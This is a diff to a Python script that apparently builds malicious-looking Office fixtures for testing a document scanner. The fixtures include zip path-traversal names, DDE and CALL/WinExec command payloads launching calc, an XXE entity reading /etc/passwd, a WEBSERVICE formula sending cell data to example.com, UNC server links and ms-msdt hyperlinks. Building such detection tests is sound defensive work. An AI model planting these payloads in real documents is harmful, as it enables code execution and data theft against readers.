@@ -14,7 +14,7 @@ import zlib
 from pathlib import Path
 
 from forge import (
-    HEAD, MICROSOFT, OOXML, S, W, WORD, Archive, archive, body, compound, excel, lying, native, packaged, powerpoint,
+    HEAD, MICROSOFT, OFFICE, OOXML, S, W, WORD, Archive, archive, body, compound, excel, lying, native, packaged, powerpoint,
     rels, types, word,
 )
 
@@ -26,6 +26,12 @@ def containers():
     yield "not_zip--rtf.docx", b"{\\rtf1 text}"
     yield "not_zip--html.xlsx", b"<html><table></table></html>"
     yield "password_protected--encrypted-package.docx", compound([("EncryptionInfo", b"x"), ("EncryptedPackage", b"y" * 5000)])
+    # How the password is checked, in the format of Excel 2007 and in that of later versions: the first is encrypted after
+    # [MS-OFFCRYPTO] 2.3.4.7 with a salt of its own, the second by msoffcrypto-tool; and the first with another password.
+    lines = (Path(__file__).parent / "excel_password.txt").read_text().splitlines()
+    for what, info in (line.split() for line in lines):
+        code = "password_protected" if what == "other" else "excel_password"
+        yield f"{code}--{what}.xlsx", compound([("EncryptionInfo", bytes.fromhex(info)), ("EncryptedPackage", b"y" * 5000)])
     yield "legacy_format--doc.docx", compound([("WordDocument", b"x" * 5000)])
     yield "zip_truncated--half.docx", good[: len(good) // 2]
     yield "zip_truncated--end-cut.docx", good[:-4]
@@ -83,10 +89,16 @@ def headers():
     yield "zip_duplicate_name--same.docx", archive([*word(), ("word/document.xml", body("other"))])
     yield "zip_duplicate_name--case.docx", archive([*word(), ("Word/Document.xml", body("other"))])
     yield "zip_duplicate_name--percent.docx", archive([*word(), ("word/d%6Fcument.xml", body("other"))])
-    for what, name in (("parent", "word/../../evil.xml"), ("absolute", "/word/document.xml"), ("backslash", "word\\evil.xml"),
+    for what, name in (("parent", "word/../../evil.xml"), ("absolute", "/word/document.xml"), ("mixture", "word\\evil.xml"),
                        ("control", "word/a\x01.xml"), ("drive", "C:/evil.xml"), ("zero", "word/a.xml\0.png"), ("dot", "./evil.xml"),
                        ("encoded", "%2e%2e/evil.xml"), ("empty-segment", "word//evil.xml"), ("direction", "word/\u202efdp.xml")):
         yield f"zip_unsafe_name--{what}.docx", archive([*word(), (name, b"<a/>")])
+    # Where no name has a slash, a backslash divides; what leads elsewhere stays what it is.
+    divided = [(name.replace("/", "\\"), content) for name, content in word()]
+    for what, name in (("parent", "word\\..\\..\\evil.xml"), ("drive", "C:\\evil.xml"), ("absolute", "\\word\\evil.xml"),
+                       ("server", "\\\\server\\evil.xml"), ("slash", "word/evil.xml"), ("encoded", "%2e%2e\\evil.xml")):
+        yield f"zip_unsafe_name--backslash-{what}.docx", archive([*divided, (name, b"<a/>")])
+    yield "zip_duplicate_name--backslash.docx", archive([*divided, ("WORD\\document.xml", body("other"))])
     yield "zip_special_file--link.docx", lying(attributes=0o120777 << 16)
     yield "zip_special_file--device.docx", lying(attributes=0o020666 << 16)
     # Two entries of the directory that name the same bytes, and one inside the data of another.
@@ -105,9 +117,7 @@ def headers():
     yield "zip_overlap--inside-data.docx", writer.finish()
 
 
-def bombs():
-    yield "bomb_ratio--zeros.docx", archive([*word(), ("word/media/image1.png", bytes(50 << 20))])
-    yield "bomb_ratio--xml.docx", archive(word(body("<w:r/>" * 400_000)))
+def budgets():
     yield "too_many_entries--ten-thousand.docx", archive([*word(), *((f"word/a{n}.xml", b"<a/>") for n in range(10_001))])
 
 
@@ -187,6 +197,7 @@ def programs():
     yield "macro_part--type.docx", archive(word(parts={"word/data.bin": b"x"}, overrides=[("/word/data.bin", vba)]))
     yield "macro_part--default-type.xlsx", archive(excel(parts={"xl/data.bin": b"x"}, defaults=[("bin", vba)]))
     yield "macro_part--relationship.pptx", archive(powerpoint(links=[(MICROSOFT + "/vbaProject", "../data.dat")]))
+    yield "macro_part--javascript.xlsx", archive(excel(links=[("http://schemas.onlyoffice.com/jsaProject", "a.bin")], parts={"xl/a.bin": b"x"}))
     yield "macro_part--vba-data.docx", archive(word(parts={"word/vbaData.xml": b"<a/>"}))
     sheet = "application/vnd.ms-excel.macrosheet+xml"
     yield "macro_sheet--folder.xlsx", archive(excel(parts={"xl/macrosheets/sheet1.xml": b"<a/>"}))
@@ -225,7 +236,6 @@ def programs():
     yield "embedded_macro--package-in-compound.docx", archive(word(parts={"word/embeddings/oleObject1.bin": compound([("Package", macros)])}))
     yield "password_protected--embedded.docx", archive(word(parts={"word/embeddings/a.xlsx": compound([("EncryptedPackage", b"x" * 5000)])}))
     yield "xml_doctype--embedded.docx", archive(word(parts={"word/embeddings/a.xlsx": archive(excel(parts={"xl/a.xml": b"<!DOCTYPE a><a/>"}))}))
-    yield "bomb_ratio--embedded.docx", archive(word(parts={"word/embeddings/a.xlsx": archive(excel(parts={"xl/a.bin": bytes(8 << 20)}))}))
     yield "embedded_executable--name.docx", archive(word(parts={"word/embeddings/setup.exe": b"x"}))
     yield "embedded_executable--named-xml.docx", archive(word(parts={"word/a.xml": b"MZ\x90\0" + bytes(80)}))
     yield "embedded_executable--windows.docx", archive(word(parts={"word/embeddings/a.bin": b"MZ\x90\0" + bytes(80)}))
@@ -235,8 +245,10 @@ def programs():
     many = compound([("\x01Ole", b"x" * 20)] * 20 + [native(b"a.txt", b"text")] * 20 + [native(b"a.vbs", b"x = 1")])
     yield "embedded_executable--last-of-many.docx", archive(word(parts={"word/embeddings/oleObject1.bin": many}))
     yield "embedded_executable--packaged-script.docx", archive(word(parts={"word/embeddings/oleObject1.bin": packaged(b"a.vbs", b"x = 1")}))
-    deep = archive(word(parts={"word/embeddings/b.xlsx": archive(excel())}))
-    yield "embedded_too_deep--three.pptx", archive(powerpoint(parts={"ppt/embeddings/a.docx": deep}))
+    deep = archive(excel())
+    for number in range(3):
+        deep = archive(word(parts={f"word/embeddings/{number}.docx": deep}))
+    yield "embedded_too_deep--five.pptx", archive(powerpoint(parts={"ppt/embeddings/a.docx": deep}))
 
 
 def links():
@@ -253,6 +265,8 @@ def links():
     yield "local_template--drive.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:///C:\\a.dotx", True))}))
     for kind in ("oleObject", "frame", "subDocument", "package"):
         yield f"external_object--{kind}.docx", archive(word(links=[(kind, web + "a.html!", True)]))
+    yield "external_link--object.docx", archive(word(links=[("oleObject", "file:///C:\\Budget.xlsx!Sheet1", True)]))
+    yield "external_object--object-in-address.docx", archive(word(links=[("oleObject", "file:///C:\\a.html!x-usc:http://example.com/a", True)]))
     yield "external_object--slideUpdateUrl.pptx", archive(powerpoint(links=[("slideUpdateUrl", web, True)]))
     yield "external_object--workbook.xlsx", archive(excel(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("oleObject", web, True))}))
     yield "external_object--strict.docx", archive(word(links=[("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject", "mhtml:https://example.com/a!b", True)]))
@@ -270,14 +284,13 @@ def links():
     yield "unc_path--vml.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": (drawing % server).encode()}))
     yield "unc_path--image.docx", archive(word(links=[("image", server + "a.png", True)]))
     yield "unc_path--sound.pptx", archive(powerpoint(links=[("audio", server + "a.wav", True)]))
-    yield "unc_path--workbook.xlsx", archive(excel(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", "file:///\\\\server\\a.xlsx", True))}))
     yield "unc_path--mail-merge.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("mailMergeSource", server + "a.csv", True))}))
     yield "mail_merge_source--list.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("mailMergeSource", "file:///C:\\a.csv", True))}))
     settings = HEAD + f'<w:settings xmlns:w="{W}"><w:mailMerge><w:odso><w:udl w:val="Provider=x"/></w:odso></w:mailMerge></w:settings>'.encode()
     yield "mail_merge_source--database.docx", archive(word(parts={"word/settings.xml": settings}))
     types = [("/xl/connections.xml", OOXML + "spreadsheetml.connections+xml")]
-    for code, target in (("data_connection", "C:\\a.accdb"), ("unc_path", "\\\\server\\a.accdb")):
-        database = f'<connections xmlns="{S}"><connection id="1" type="5"><dbPr connection="Provider=x;Data Source={target}"/></connection></connections>'
+    for code, target, when in (("data_connection", "C:\\a.accdb", ""), ("unc_path", "\\\\server\\a.accdb", 'refreshOnLoad="1"')):
+        database = f'<connections xmlns="{S}"><connection id="1" type="5" {when}><dbPr connection="Provider=x;Data Source={target}"/></connection></connections>'
         yield f"{code}--database.xlsx", archive(excel(parts={"xl/connections.xml": HEAD + database.encode()}, overrides=types))
     for what, target in (("script", "javascript:alert(1)"), ("file", "file:///C:\\a.docx"), ("scheme", "ms-msdt:/id"), ("server", server)):
         yield f"unusual_hyperlink--{what}.docx", archive(word(links=[("hyperlink", target, True)]))
@@ -305,6 +318,7 @@ def fields_and_formulas():
     yield "dde_field--entities.docx", archive(word(field(run("&#68;&#x44;E x"))))
     yield "dde_field--strict.docx", archive(word(body(field(run("DDE x"))).replace(W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")))
     yield "dde_field--prefix.docx", archive(word(body(field(run("DDE x"))).replace(b"w:", b"z:").replace(b"xmlns:w", b"xmlns:z")))
+    # Verdicts of fields in other places are among the rules that hold for every spelling.
     for name in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK", "DATABASE", "RD"):
         yield f"pulling_field--{name.lower()}.docx", archive(word(field(run(f" {name} x"))))
     link = f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
@@ -319,10 +333,180 @@ def fields_and_formulas():
         yield f"{code}--{name}-hover.pptx", archive(powerpoint(f'<a:hlinkHover action=" PPACTION://{what}"/>'))
 
 
+# One rule for one danger, whatever its spelling
+
+
+def on_request():
+    """Links that are followed when the reader agrees, and the same where the file asks for them by itself."""
+    server, web = "file:///\\\\server\\share\\a.xlsx", "https://example.sharepoint.com/a.xlsx"
+    path = {"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", server, True))}
+    missing = {"xl/externalLinks/_rels/externalLink1.xml.rels": rels((MICROSOFT + "/xlExternalLinkPath/xlPathMissing", server, True))}
+    yield "server_link--workbook.xlsx", archive(excel(parts=path))
+    yield "server_link--workbook-missing.xlsx", archive(excel(parts=missing))
+    yield "server_link--workbook-asked.xlsx", archive(excel(parts=path, workbook='<workbookPr updateLinks="userSet"/>'))
+    yield "unc_path--workbook-always.xlsx", archive(excel(parts=path, workbook='<workbookPr updateLinks="always"/>'))
+    yield "server_link--spelled-out.xlsx", archive(excel("<f>SUM('\\\\server\\share\\[a.xlsx]Sheet1'!A1)</f>"))
+    chart = [("/xl/charts/chart1.xml", OOXML + "drawingml.chart+xml")]
+    c = "http://schemas.openxmlformats.org/drawingml/2006/chart"
+    for what, target, update, code in (
+        ("server", server, '<c:autoUpdate val="0"/>', "server_link"), ("server-unsaid", server, "", "server_link"),
+        ("web", web, '<c:autoUpdate val="0"/>', "external_link"), ("server-update", server, '<c:autoUpdate val="1"/>', "external_object"),
+        ("web-update", web, "<c:autoUpdate/>", "external_object"), ("scheme", "mhtml:http://example.com/a", "", "external_object"),
+    ):
+        space = f'<c:chartSpace xmlns:c="{c}" xmlns:r="{OFFICE}"><c:externalData r:id="rId1">{update}</c:externalData></c:chartSpace>'
+        yield f"{code}--chart-{what}.xlsx", archive(excel(overrides=chart, parts={
+            "xl/charts/chart1.xml": HEAD + space.encode(), "xl/charts/_rels/chart1.xml.rels": rels(("oleObject", target, True))}))
+    kinds = [("/xl/connections.xml", OOXML + "spreadsheetml.connections+xml")]
+
+    def connection(inside, attributes="", parts=None):
+        text = f'<connections xmlns="{S}"><connection id="3" {attributes}>{inside}</connection></connections>'
+        return archive(excel(parts={"xl/connections.xml": HEAD + text.encode(), **(parts or {})}, overrides=kinds))
+
+    query = f'<queryTable xmlns="{S}" connectionId="3" refreshOnLoad="1"/>'.encode()
+    pivot = f'<pivotCacheDefinition xmlns="{S}" refreshOnLoad="1"><cacheSource type="external" connectionId="3"/></pivotCacheDefinition>'.encode()
+    yield "server_link--odc.xlsx", connection("", 'odcFile="\\\\server\\a.odc"')
+    yield "server_link--web-query.xlsx", connection('<webPr url="file://server/a.htm"/>')
+    yield "server_link--text.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>')
+    yield "server_link--database.xlsx", connection('<dbPr connection="Provider=x;Data Source=\\\\server\\a.accdb"/>')
+    yield "unc_path--odc-on-load.xlsx", connection("", 'odcFile="\\\\server\\a.odc" refreshOnLoad="1"')
+    yield "unc_path--text-interval.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', 'interval="10"')
+    yield "unc_path--text-query.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', parts={"xl/queryTables/queryTable1.xml": query})
+    yield "unc_path--text-pivot.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', parts={"xl/pivotCache/pivotCacheDefinition1.xml": pivot})
+    cache = [("/xl/pivotCache/pivotCacheDefinition1.xml", OOXML + "spreadsheetml.pivotCacheDefinition+xml")]
+    for code, when in (("server_link", "0"), ("unc_path", "1")):
+        source = f'<pivotCacheDefinition xmlns="{S}" xmlns:r="{OFFICE}" refreshOnLoad="{when}"><cacheSource><worksheetSource ref="A1" r:id="rId1"/></cacheSource></pivotCacheDefinition>'
+        yield f"{code}--pivot-{when}.xlsx", archive(excel(overrides=cache, parts={
+            "xl/pivotCache/pivotCacheDefinition1.xml": source.encode(),
+            "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": rels(("externalLinkPath", server, True))}))
+
+
+def formulas_everywhere():
+    fetch = '_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)'
+    yield "fetching_formula--cell.xlsx", archive(excel(f"<f>{fetch}</f>"))
+    yield "fetching_formula--spelling.xlsx", archive(excel("<f>_xlfn._xlws.webService&#10;(A1)</f>"))
+    yield "fetching_formula--pieces.xlsx", archive(excel("<f>WEB<!-- x -->SER<![CDATA[VICE(]]>A1)</f>"))
+    yield "fetching_formula--handed-on.xlsx", archive(excel("<f>MAP(A1:A3,_xleta.WEBSERVICE)</f>"))
+    yield "fetching_formula--array.xlsx", archive(excel(f'<f t="array" ref="A1:A2">{fetch}</f>'))
+    yield "fetching_formula--shared.xlsx", archive(excel(f'<f t="shared" si="0" ref="A1:A2">{fetch}</f>'))
+    yield "fetching_formula--name.xlsx", archive(excel(workbook=f'<definedNames><definedName name="x" hidden="1">{fetch}</definedName></definedNames>'))
+    for what, element in (
+        ("condition", "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>"),
+        ("validation", "<dataValidations><dataValidation><formula1>{}</formula1></dataValidation></dataValidations>"),
+        ("newer-condition", '<extLst><x14:cfRule xmlns:x14="urn:x14" xmlns:xm="urn:xm"><xm:f>{}</xm:f></x14:cfRule></extLst>'),
+        ("threshold", "<cfRule><cfvo type='formula' val='{}'/></cfRule>"),
+        ("table", "<tableColumn><calculatedColumnFormula>{}</calculatedColumnFormula></tableColumn>"),
+        ("pivot", "<cacheField name='x' formula='{}'/>"),
+    ):
+        inside = element.format(fetch.replace('"', "&quot;"))
+        yield f"fetching_formula--{what}.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": f'<worksheet xmlns="{S}">{inside}</worksheet>'.encode()}))
+    yield "fetching_formula--chart.pptx", archive(powerpoint(parts={
+        "ppt/charts/chart1.xml": f'<c:chart xmlns:c="urn:c"><c:f>{fetch}</c:f></c:chart>'.encode()}))
+    yield "fetching_formula--stocks.xlsx", archive(excel('<f>_xlfn.STOCKHISTORY("MSFT",TODAY())</f>'))
+    yield "fetching_formula--real-time.xlsx", archive(excel('<f>RTD("vendor.feed",,"price")</f>'))
+    yield "program_formula--real-time-server.xlsx", archive(excel('<f>RTD("vendor.feed","server","price")</f>'))
+    yield "program_formula--call.xlsx", archive(excel('<f>CALL("Kernel32","WinExec","JCJ","calc",0)</f>'))
+    yield "program_formula--register.xlsx", archive(excel('<f>Register.ID ("\\\\server\\a.dll","f")</f>'))
+    yield "program_formula--name.xlsx", archive(excel(workbook='<definedNames><definedName name="x">EXEC("calc")</definedName></definedNames>'))
+    yield "dde_formula--function.xlsx", archive(excel('<f>DDE("soffice","a.ods","A1")</f>'))
+    yield "dde_formula--attribute.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": b"<a><oleObject link=\"cmd|'/C calc'!A0\"/></a>"}))
+    yield "external_image--formula.xlsx", archive(excel('<f>_xlfn.IMAGE("https://example.com/a.png")</f>'))
+    yield "unc_path--formula.xlsx", archive(excel('<f>_xlfn.IMAGE("\\\\server\\a.png")</f>'))
+    for what, target in (("server", '"\\\\server\\share"'), ("file", '"file:///C:/a.exe"'), ("joined", '"\\\\"&amp;"server\\"&amp;A1'),
+                         ("characters", 'CHAR(92)&amp;CHAR(92)&amp;"server"'), ("function", 'IF(A1,"\\\\server\\a","")'),
+                         ("brackets", '"[\\\\server\\a.xlsx]Sheet1!A1"')):
+        yield f"unusual_hyperlink--formula-{what}.xlsx", archive(excel(f'<f>HYPERLINK({target},"x")</f>'))
+
+
+def programs_around():
+    """What a file brings for the program that opens it: web extensions, ribbons, macros of shapes and fields."""
+    pane = "http://schemas.microsoft.com/office/2011/relationships/webextension"
+
+    def extension(reference, visible):
+        panes = f'<wetp:taskpanes xmlns:wetp="urn:wetp"><wetp:taskpane visibility="{visible}"/></wetp:taskpanes>'
+        web = f'<we:webextension xmlns:we="urn:we" id="x"><we:reference id="x" version="1.0" {reference}/></we:webextension>'
+        files = word(parts={
+            "word/webextensions/taskpanes.xml": panes.encode(), "word/webextensions/webextension1.xml": web.encode(),
+            "word/webextensions/_rels/taskpanes.xml.rels": rels((pane, "webextension1.xml"))})
+        files[1] = ("_rels/.rels", rels(("officeDocument", "word/document.xml"), (pane + "taskpanes", "word/webextensions/taskpanes.xml")))
+        return archive(files)
+
+    yield "web_extension--shop.docx", extension('store="en-US" storeType="OMEX"', 0)
+    yield "web_extension--shown.docx", extension('store="en-US" storeType="OMEX"', 1)
+    yield "unc_path--web-extension.docx", extension('store="//server/share" storeType="Filesystem"', 1)
+    yield "unc_path--web-extension-backslashes.docx", extension('store="\\\\server\\share" storeType="FileSystem"', 0)
+    office = "http://schemas.microsoft.com/office/2006/relationships/ui/"
+    for what, kind, target, ribbon, code in (
+        ("tab", "extensibility", "customUI/customUI.xml", '<tab idMso="TabHome" visible="false"/>', "custom_ribbon"),
+        ("button", "extensibility", "customUI/customUI14.xml", '<button id="x" onAction="X"/>', "action_macro"),
+        ("load", "extensibility", "customUI/a.xml", '<button id="x" getVisible="X"/>', "action_macro"),
+        ("toolbar", "userCustomization", "userCustomization/customUI.xml", '<control idQ="x" onAction="X"/>', "action_macro"),
+    ):
+        files = excel(parts={target: f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui">{ribbon}</customUI>'.encode()})
+        files[1] = ("_rels/.rels", rels(("officeDocument", "xl/workbook.xml"), (office + kind, target)))
+        yield f"{code}--ribbon-{what}.xlsx", archive(files)
+    shape = '<xdr:wsDr xmlns:xdr="urn:xdr"><xdr:sp macro="%s" textlink=""/></xdr:wsDr>'
+    yield "macro_button--shape.xlsx", archive(excel(parts={"xl/drawings/drawing1.xml": (shape % "[0]!X").encode()}))
+    yield "action_macro--shape-elsewhere.xlsx", archive(excel(parts={"xl/drawings/drawing1.xml": (shape % "[1]!X").encode()}))
+    vml = '<xml xmlns:v="urn:v" xmlns:x="urn:x"><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!X</x:FmlaMacro></x:ClientData></v:shape></xml>'
+    yield "macro_button--button.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": vml.encode()}))
+    yield "action_macro--button-elsewhere.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": vml.replace("[0]", "[1]").encode()}))
+    yield "macro_button--form-field.docx", archive(word('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="X"/></w:ffData></w:fldChar></w:r>'))
+    yield "macro_button--field.docx", archive(word('<w:fldSimple w:instr=" MACROBUTTON AllCaps [x]"/>'))
+    video = '<wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe src=&quot;https://example.com&quot;/&gt;"/>'
+    yield "external_link--web-video.docx", archive(word(video))
+
+
+def fields_elsewhere():
+    """Fields to the web and to file servers: the same verdict as a relationship to that place."""
+    for code, what, instruction in (
+        ("external_object", "link", 'LINK Word.Document "http://example.com/a.docx"'),
+        ("external_object", "link-server", 'LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" "Sheet1!A1" \\a'),
+        ("external_object", "link-scheme", 'LINK htmlfile "mhtml:http://example.com/a!x"'),
+        ("unc_path", "picture", 'INCLUDEPICTURE "\\\\\\\\server\\\\a.png" \\d'),
+        ("unc_path", "picture-single", 'INCLUDEPICTURE \\\\server\\a.png'),
+        ("unc_path", "picture-slashes", 'INCLUDEPICTURE "//server/a.png"'),
+        ("unc_path", "text", 'INCLUDETEXT "file://server/a.docx"'),
+        ("unc_path", "database", 'DATABASE \\d "\\\\\\\\server\\\\a.mdb" \\s "SELECT 1"'),
+        ("external_image", "picture", 'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMATINET'),
+        ("pulling_field", "range", 'LINK Excel.Sheet.12 "C:\\\\a.xlsx" A1:B2'),
+    ):
+        instruction = instruction.replace("&", "&amp;").replace('"', "&quot;")
+        yield f"{code}--field-{what}.docx", archive(word(f'<w:fldSimple w:instr=" {instruction} "/>'))
+    shape = '<xml xmlns:v="urn:v" xmlns:o="urn:o">%s</xml>'
+    for code, what, element in (
+        ("unc_path", "fill", '<v:fill o:href="file://server/a.png"/>'), ("unc_path", "stroke", '<v:stroke src="//server/a.png"/>'),
+        ("unusual_hyperlink", "shape", '<v:rect href="\\\\server\\a.docx"/>'),
+    ):
+        yield f"{code}--vml-{what}.docx", archive(word(parts={"word/header1.xml": (shape % element).encode()}))
+    schema = '<w:settings xmlns:w="urn:w"><sl:schema xmlns:sl="urn:sl" sl:manifestLocation="\\\\server\\a.xml"/></w:settings>'
+    yield "unc_path--expansion-pack.docx", archive(word(parts={"word/settings.xml": schema.encode()}))
+
+
+def foreign_declarations():
+    svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"%s><svg xmlns="http://www.w3.org/2000/svg"/>'
+    picture = {"links": [("image", "media/image1.svg")], "defaults": [("svg", "image/svg+xml")]}
+
+    def drawn(subset=""):
+        return archive(word(parts={"word/media/image1.svg": (svg % subset).encode()}, **picture))
+
+    yield "foreign_doctype--picture.docx", drawn()
+    yield "foreign_doctype--plain-entity.docx", drawn('[<!ENTITY ns "http://www.w3.org/2000/svg">]')
+    yield "foreign_doctype--leftover.docx", archive(word(parts={"META-INF/a.plist": svg.replace("%s", "").encode()}))
+    yield "strict/foreign_doctype--picture.docx", drawn()
+    yield "xml_doctype--picture-that-expands.docx", drawn('[<!ENTITY a "x"><!ENTITY b "&a;&a;">]')
+    yield "xml_doctype--picture-that-fetches.docx", drawn('[<!ENTITY a SYSTEM "file:///etc/passwd">]')
+    yield "xml_doctype--picture-of-another-place.docx", archive(word(
+        parts={"word/media/image1.svg": b'<!DOCTYPE svg SYSTEM "http://example.com/a.dtd"><svg/>'}, **picture))
+    yield "xml_doctype--header-called-picture.docx", archive(word(
+        links=[("image", "media/image1.svg"), ("header", "media/image1.svg")], defaults=picture["defaults"],
+        parts={"word/media/image1.svg": (svg % "").encode()}))
+
+
 def main():
     folder = Path(sys.argv[1])
     (folder / "strict").mkdir(parents=True, exist_ok=True)
-    for group in (containers, headers, bombs, markup, packages, programs, links, fields_and_formulas):
+    for group in (containers, headers, budgets, markup, packages, programs, links, fields_and_formulas, on_request,
+                  formulas_everywhere, programs_around, fields_elsewhere, foreign_declarations):
         for name, data in group():
             (folder / name).write_bytes(data)
 
